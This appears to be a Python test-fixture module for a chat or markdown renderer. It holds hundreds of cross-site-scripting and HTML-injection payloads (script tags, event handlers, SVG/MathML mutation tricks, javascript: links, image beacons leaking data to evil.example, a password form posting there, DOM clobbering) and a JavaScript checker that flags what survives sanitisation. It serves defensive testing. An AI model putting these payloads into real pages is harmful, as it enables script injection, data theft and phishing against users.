"""What a model, a file or a stranger may say to take over the page that shows it.

Each opens a dialog, asks another origin for something, or leaves an element behind that could, when
a page does not take care. `ELSEWHERE` is an origin that is asked by none of them then.
"""

from __future__ import annotations

from typing import Final

ELSEWHERE: Final = "https://evil.example"

_E: Final = ELSEWHERE

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<script>alert`1`",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
    "<script nonce=x>alert(1)</script>",
    "<noscript><script>alert(1)</script></noscript>",
)

HANDLERS: Final = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img src=x:x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\fsrc=x\fonerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src='x' alt='`><img src=x onerror=alert(1)>'>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1) //",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video onerror=alert(1)><source src=x>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=x onerror=alert(1)>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<p onpointerenter=alert(1)>x</p>",
    "<b onclick=alert(1)>x</b>",
    "<style onload=alert(1)></style>",
    "<div style='animation:x 1s' onanimationstart=alert(1)>x</div>",
    "<p tabindex=1 onfocus=alert(1) autofocus contenteditable>x</p>",
    "<div popover id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop>y</button>",
    "<xss-element onconnected=alert(1) onclick=alert(1)>x</xss-element>",
    "<track default src=x onerror=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
)

SVG_AND_MATH: Final = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<svg><use href=https://evil.example/x.svg#x></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<svg><filter><feImage href=https://evil.example/x.png /></filter></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
)

MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><mglyph><style><math href="</style><img src onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><svg><desc><table><tr><td></svg><img src=x onerror=alert(1)>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    '<!-- > <img title="--><iframe/onload=alert(1)>"> -->',
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
)

LINKS: Final = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert%281%29)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript:%0aalert(1))",
    "[x](javascript://evil.example/%0aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](intent://x#Intent;scheme=javascript;end)",
    "[x](//evil.example)",
    "[x](/api/signout)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x [y](javascript:alert(1)) z](javascript:alert(2))",
    '[x](https://evil.example "onmouseover=alert(1)")',
    "[x](https://evil.example '\"><img src=x onerror=alert(1)>')",
    '[x](https://evil.example"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://evil.example)",
    "[`<img src=x onerror=alert(1)>`](https://evil.example)",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][evil]\n\n[evil]: <javascript:alert(1)> "title"',
    "[evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
    "[x][<img src=x onerror=alert(1)>]\n\n[<img src=x onerror=alert(1)>]: https://evil.example",
    "[__proto__]\n\n[__proto__]: javascript:alert(1)",
    "[constructor]\n\n[toString][]",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "<x:alert(1)@evil.example>",
    'https://evil.example/"onmouseover=alert(1)',
    "www.evil.example/'onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
    "<a href=https://evil.example target=_top rel=opener>x</a>",
    "<a href=https://evil.example download attributionsrc=https://evil.example/a>x</a>",
    "<area href=javascript:alert(1)><map><area shape=default href=javascript:alert(1)></map>",
)

IMAGES: Final = (
    f"![x]({_E}/leak?q=secret)",
    f'![x]({_E}/x.png "title")',
    f"![x](<{_E}/x y.png>)",
    f"![x][remote]\n\n[remote]: {_E}/x.png",
    f"![remote][]\n\n[remote]: {_E}/x.png 'title'",
    f"![remote]\n\n[remote]: {_E}/x.png",
    f"[![x]({_E}/x.png)]({_E})",
    f"| ![x]({_E}/x.png) |\n|---|\n| ![y]({_E}/y.png) |",
    f"> - 1. ![x]({_E}/x.png)",
    f"# ![x]({_E}/x.png)",
    f"**![x]({_E}/x.png)**",
    "![x](//evil.example/x.png)",
    "![x](\\\\evil.example\\x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    '!["onerror=alert(1) x="](x)',
    "![<script>alert(1)</script>](x)",
    f"<img src={_E}/x.png>",
    f"<img srcset='{_E}/x.png 1x'>",
    f"<picture><source srcset={_E}/x.png><img></picture>",
    f"<input type=image src={_E}/x.png>",
    f"<table background={_E}/x.png><tr><td background={_E}/y.png>x</table>",
    f"<link rel=prefetch href={_E}/x>",
    f"<link rel=dns-prefetch href={_E}>",
    f"<link rel=icon href={_E}/x.ico>",
)

TAKEOVERS: Final = (
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<base href=https://evil.example/>",
    "<base target=_blank>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=submit form=x formaction=https://evil.example>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=https://evil.example/x.swf></object>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<portal src=https://evil.example></portal>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<style>*{display:none!important}</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:999'>Your session ended. Sign in again.</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p class='composer send visually-hidden' hidden>x</p>",
    "<dialog open>Sign in again</dialog>",
)

CLOBBERS: Final = (
    "<a id=app></a><a id=main></a>",
    "<form id=document><input name=cookie></form>",
    "<img name=body><img name=head>",
    "<img name=getElementById><img name=querySelector>",
    "<form name=form><input id=attributes><input name=nodeName></form>",
    "<a id=paddock></a><a id=paddock name=config href=https://evil.example></a>",
    "<iframe name=session srcdoc=x></iframe>",
    "<output id=location>https://evil.example</output>",
    "<div id=__proto__><div id=constructor>x</div></div>",
    "<svg id=createElement></svg>",
)

FORMULAS: Final = (
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{https://evil.example}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$$\includegraphics[height=1em]{https://evil.example/x.png}$$",
    r"$\htmlClass{composer}{x}$",
    r"$\htmlId{app}{x}$",
    r"$\htmlStyle{background:url(https://evil.example)}{x}$",
    r"$\htmlData{x=y}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</span><script>alert(1)</script>}$",
    r"$<img src=x onerror=alert(1)>$",
    r"\(<svg onload=alert(1)>\)",
    r"\[\unknown{<img src=x onerror=alert(1)>}\]",
    r"$\def\a{\a\a}\a$",
    r"$\color{red;background:url(https://evil.example/x)}x$",
    r"$\rule{99999em}{99999em}$",
)

PLACES: Final = (
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```__proto__\nx\n```",
    "~~~<script>alert(1)</script>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "``</code><img src=x onerror=alert(1)>``",
    "```html\n<script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "# x {#app onclick=alert(1)}",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
    "1. <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    '| x |\n|:-" onclick=alert(1) x="-:|\n| y |',
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "*<img src=x* onerror=alert(1)>",
    "**<script>**alert(1)**</script>**",
    "~~<svg onload=alert(1)>~~",
    "x  \n<img src=x onerror=alert(1)>",
    "<details>\n<summary>x</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>",
    "<div>\n\n```\n</div><img src=x onerror=alert(1)>\n```\n\n</div>",
    "<think><img src=x onerror=alert(1)></think>",
    "<img src=x one\u0000rror=alert(1)>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<img src=x onerror=\\u0061lert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "\ud83d\ude00<img src=x onerror=alert(1)>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)

PAYLOADS: Final = (
    *SCRIPTS,
    *HANDLERS,
    *SVG_AND_MATH,
    *MUTATIONS,
    *LINKS,
    *IMAGES,
    *TAKEOVERS,
    *CLOBBERS,
    *FORMULAS,
    *PLACES,
)

NAMES: Final = tuple(
    payload for payload in PAYLOADS if len(payload) <= 60 and payload.isprintable()
)
"""Those that are short enough for a name."""

LEFT_IN: Final = """(root) => {
  const scheme = /^\\s*(javascript|vbscript|data|file|blob|intent|feed|view-source):/i;
  const address = /^(href|src|action|formaction|data|xlink:href|srcdoc|srcset|ping|background)$/i;
  const picture = /^(blob:|data:image\\/)/;
  const acting = new Set(["script", "iframe", "object", "embed", "base", "meta", "link", "style",
    "form", "input", "select", "textarea", "dialog", "img", "video", "audio", "template"]);
  const told = new Set();
  for (const element of root.querySelectorAll("*")) {
    const tell = (why) => told.add(`${why}: ${element.outerHTML.slice(0, 200)}`);
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) tell("handler");
      const shown = element.localName === "img" && name === "src" && picture.test(value);
      if (address.test(name) && scheme.test(value) && !shown) tell("address");
    }
    if (!element.closest(".markdown")) continue;
    if (acting.has(element.localName)) tell("element");
    for (const name of ["id", "name", "srcset", "ping", "target"])
      if (element.hasAttribute(name) && element.getAttribute(name) !== "_blank") tell(name);
    const drawn = element.closest(".katex");
    if (element.hasAttribute("style") && (!drawn || /url|evil/.test(element.style.cssText)))
      tell("style");
    const leads = element.getAttribute("href") ?? "https:";
    if (!/^(https?|mailto):/i.test(leads)) tell("link");
  }
  return [...told];
}"""
"""JavaScript: what could still act in an element, in words."""
